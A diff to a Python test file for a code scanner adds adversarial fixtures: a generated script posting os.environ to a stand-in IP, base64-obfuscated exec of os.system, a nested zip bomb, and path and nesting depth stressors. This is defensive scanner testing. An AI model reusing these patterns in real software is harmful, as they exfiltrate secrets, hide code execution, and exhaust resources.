@@ -1,8 +1,11 @@
 """`assay check` by itself: what it takes, what it prints, how it ends, and what must not harm it."""
 
+import base64
+import io
 import json
 import os
 import pathlib
+import random
 import resource
 import socket
 import subprocess
@@ -294,12 +297,23 @@ class BadInput(CheckTest):
         self.write("line.py", b"x = '" + b"http://update.contoso.com/a " * 20_000 + b"a" * 10_000_000 + b"'\n")
         self.write("deep.py", "f = " + "(" * 200_000 + "'http://update.contoso.com/'" + ")" * 200_000 + "\n")
         self.write("nul.py", b"\0" * 3_000_000 + WEAK.encode())
+        self.write("comprehensions.py", "x = " + "[a for a in " * 50_000 + "eval(y)\n")
+        self.write("name.py", "from " + "d." * 400_000 + "e import f\neval(f)\n")
+        self.write("calls.py", "import os, requests\n" + "".join(
+            f"def f{i}(x):\n  requests.post('http://192.0.2.1/', data=f{i + 1}(x))\n" for i in range(10_000)) +
+            "f0(dict(os.environ))\n")
+        self.write("payload.py", "import base64\nx = '" + base64.b64encode(b"import os; os.system('x')\n" * 3000).decode()
+                   + "'\n" + "exec(base64.b64decode(x))\n" * 10_000)
+        self.write("passwords.env", "".join(
+            f"DB_PASSWORD_{i}={base64.b64encode(random.randbytes(18)).decode()}\n" for i in range(50_000)))
         self.write("latin.py", WEAK.encode() + b"# \xff\xfe\n")
         before = resource.getrusage(resource.RUSAGE_CHILDREN)
         found = self.findings("tree", timeout=300)
         after = resource.getrusage(resource.RUSAGE_CHILDREN)
         self.assertLess(after.ru_utime - before.ru_utime, 20, "CPU seconds")
         self.assertTrue({"tree/line.py", "tree/deep.py", "tree/latin.py"} <= {f["path"] for f in found})
+        unread = {f["path"] for f in found if f["rule"] == "check/unread-python"}
+        self.assertLessEqual({"tree/deep.py", "tree/comprehensions.py"}, unread)
         self.check("tree")
 
     def test_a_large_file_is_examined_in_parts_and_lines_stay_right(self):
@@ -312,6 +326,32 @@ class BadInput(CheckTest):
         self.assertIn("check/in-parts", [f["rule"] for f in found])
         (place,) = [f["line"] for f in found if f["rule"] == RULE]
         self.assertEqual(place, 700_001)
+
+    def test_folders_deeper_than_a_path_is_long(self):
+        self.addCleanup(subprocess.run, ["rm", "-rf", self.tree])  # deeper than rmtree can go
+        place = os.open(self.tree, os.O_RDONLY)
+        for _ in range(2_000):
+            os.mkdir("deep", dir_fd=place)
+            below = os.open("deep", os.O_RDONLY, dir_fd=place)
+            os.close(place)
+            place = below
+        os.close(place)
+        self.assertIn("check/unreadable", self.rules("tree", code=3))
+
+    def test_zip_files_within_zip_files(self):
+        bomb = b"\0" * 100_000_000
+        for level in range(5):
+            packed = io.BytesIO()
+            with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as outer:
+                for i in range(16 if level else 1):
+                    outer.writestr(f"{i}.zip", bomb)
+            bomb = packed.getvalue()
+        self.write("bomb.zip", bomb)
+        before = resource.getrusage(resource.RUSAGE_CHILDREN)
+        self.assertIn("secrets/archive", self.rules("tree"))
+        self.assertIn("secrets/archive", self.rules(self.tree / "bomb.zip"))
+        after = resource.getrusage(resource.RUSAGE_CHILDREN)
+        self.assertLess(after.ru_utime - before.ru_utime, 20, "CPU seconds")
 
     def test_archives_that_are_refused(self):
         with zipfile.ZipFile(self.folder / "bomb.whl", "w", zipfile.ZIP_DEFLATED) as bomb:
